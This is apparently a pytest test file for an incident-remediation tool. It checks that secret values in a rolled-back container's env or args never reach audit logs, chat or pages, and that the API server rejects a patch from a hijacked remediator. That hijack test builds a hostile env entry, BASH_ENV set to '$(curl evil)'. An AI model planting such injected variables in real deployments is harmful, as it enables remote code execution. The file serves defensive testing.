"""What a rollback would change in arguments and variables: nobody carries it out, and its values are nowhere.

Two attacks on the whole product in the sandbox. A revision that differs in `args` or `env` (as powerful
as `command`: BASH_ENV, NODE_OPTIONS, HTTPS_PROXY, `$(TOKEN)`) was rolled back; and the values stood in
plain text in the append-only audit, in records, in chat ("Approval needed: …") and on the page.
"""

import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest

from quietpager.actions import plan as planning
from quietpager.change import digests
from quietpager.change.patch_fields import patch_of
from quietpager.cli.people import story
from quietpager.cluster.client import connect
from quietpager.functions.people.console import views
from quietpager.model.cluster import Rejected
from quietpager.model.incident import Autonomy, Edit, Intent, Rehearsal, State
from quietpager.model.reference import ObjectRef
from quietpager.model.time import system_clock
from quietpager.sandbox.server import running
from quietpager.store.memory import MemoryStore
from tests.flow.harness import QUICK, Product
from tests.flow.test_stories import TAG, World

Json = dict[str, Any]

OLD, NEW, ARGUMENT = "hunter2-OLD-s3cret", "hunter2-NEW-s3cret", "--token=argument-s3cret"
CONTAINER = "/spec/template/spec/containers/0"


@pytest.fixture
def world() -> Iterator[World]:
    with running(speed=25) as url:
        cluster = connect(url, manager="world")
        policy = QUICK.but(autonomy=Autonomy.APPROVE)
        product = Product(MemoryStore(), connect(url, manager="product"), policy)
        product.resume()
        yield World(url, cluster, product)
        cluster.close()
        product.cluster.close()  # type: ignore[attr-defined]


def plant(world: World, field: str) -> None:
    """Load the bad release, and let its two revisions differ in a variable or an argument as well."""
    world.load(TAG, events=False)
    objects = [*world.cluster.list("Deployment", "team-43"), *world.cluster.list("ReplicaSet", "team-43")]
    objects += world.cluster.list("Pod", "team-43")
    for one in objects:
        spec = one["spec"] if one["kind"] == "Pod" else one["spec"]["template"]["spec"]
        [container] = spec["containers"]
        new = container["image"].endswith(":missing")
        if field == "env":
            container["env"] = [{"name": "DB_PASSWORD", "value": NEW if new else OLD}]
        elif new:
            container["args"] = [ARGUMENT]
    world.put(objects)


@pytest.mark.parametrize("field", ["env", "args"])
def test_a_rollback_that_differs_in_it_is_proposed_and_its_values_are_nowhere(
    world: World, field: str, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    plant(world, field)
    assert world.product.run_until(lambda: any(i.state is State.PROPOSED for i in world.product.incidents()))
    world.product.deliver()
    assert world.writes() == []
    incident = world.the("web")
    assert [one.action for one in incident.remedies] == ["rollout-undo", "propose-change"]
    sinks = everything(world, incident.id) | {"said": capsys.readouterr().out, "log": caplog.text}
    for sink, text in sinks.items():
        for value in (OLD, NEW, ARGUMENT):
            assert value not in text, sink
    name = "DB_PASSWORD" if field == "env" else "args"
    digest = digests.digest_of(NEW if field == "env" else [ARGUMENT])
    for sink in ("REHEARSAL", "audit", "story", "page"):
        assert name in sinks[sink], sink
        assert str(digest) in sinks[sink], sink


def everything(world: World, incident: str) -> dict[str, str]:
    """Give every place where text could have gone, by its name."""
    store = world.product.store
    kinds = ("INCIDENT", "REHEARSAL", "INTENT", "FINDING", "TELL", "APPROVAL", "CAUSE", "SLOT")
    found = {kind: json.dumps([r.body for r in store.scan(kind)]) for kind in kinds}
    plans = [Rehearsal.from_json(r.body) for r in store.scan("REHEARSAL")]
    return found | {
        "audit": json.dumps([entry.body for entry in store.audit(incident)]),
        "messages": repr([m.to_json() for m in world.product.seen]),
        "story": story(store, incident),
        "page": repr([views.diff(plan.edits) for plan in plans]),
    }


def test_without_the_digests_the_values_are_kept(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(planning, "kept", tuple)
    plant(world, "env")
    store = world.product.store
    assert world.product.run_until(lambda: any(r.body["state"] != "asked" for r in store.scan("REHEARSAL")))
    assert NEW in everything(world, world.the("web").id)["audit"]


@pytest.mark.parametrize("held", [True, False])
def test_the_api_server_refuses_it_from_whoever_sends_it(
    world: World, monkeypatch: pytest.MonkeyPatch, held: bool
) -> None:
    """A hijacked remediator sends the patch itself. Mutant: the promise without what it holds equal."""
    if not held:
        monkeypatch.setattr("quietpager.change.promise._held", lambda *_known: ())
    plant(world, "env")
    live = world.deployment("team-43", "web")
    account = "system:serviceaccount:quietpager:remediate-rollout-undo"
    own = world.cluster.acting_as("product", account)
    patch = hijacked(live)
    if held:
        with pytest.raises(Rejected, match=r"rule container: it may not change: web\.env") as no:
            own.json_patch("Deployment", "team-43", "web", patch)
        assert no.value.code == 403
        return
    own.json_patch("Deployment", "team-43", "web", patch)
    assert len(world.writes()) == 1


def hijacked(live: Json) -> list[Json]:
    """Make the patch that the product's own code would make of a plan with a variable in it."""
    had = live["spec"]["template"]["spec"]["containers"][0]["env"]
    env = [{"name": "BASH_ENV", "value": "$(curl evil)"}]
    return patch_of(intent(live, Edit(path=f"{CONTAINER}/env", had=had, gets=env)), live)


def intent(live: Json, edit: Edit) -> Intent:
    meta = live["metadata"]
    target = ObjectRef(
        api_version="apps/v1", kind="Deployment", namespace="team-43", name="web", uid=meta["uid"]
    )
    return Intent(
        id="int-x", incident="i", rehearsal="r", action="rollout-undo", target=target,
        generation=meta["generation"], created_at=system_clock(), expires_at=system_clock(), edits=(edit,),
    )  # fmt: skip


def test_a_digest_is_never_written(world: World) -> None:
    """A plan of digests that got as far as an intent all the same is no patch."""
    world.load(TAG, events=False)
    live = world.deployment("team-43", "web")
    [edit] = digests.kept([Edit(path=f"{CONTAINER}/env", had=None, gets=[{"name": "A", "value": "b"}])])
    assert (edit.path, edit.hidden, edit.had) == (f"{CONTAINER}/env/A", True, None)
    with pytest.raises(AssertionError, match="digest"):
        patch_of(intent(live, edit), live)
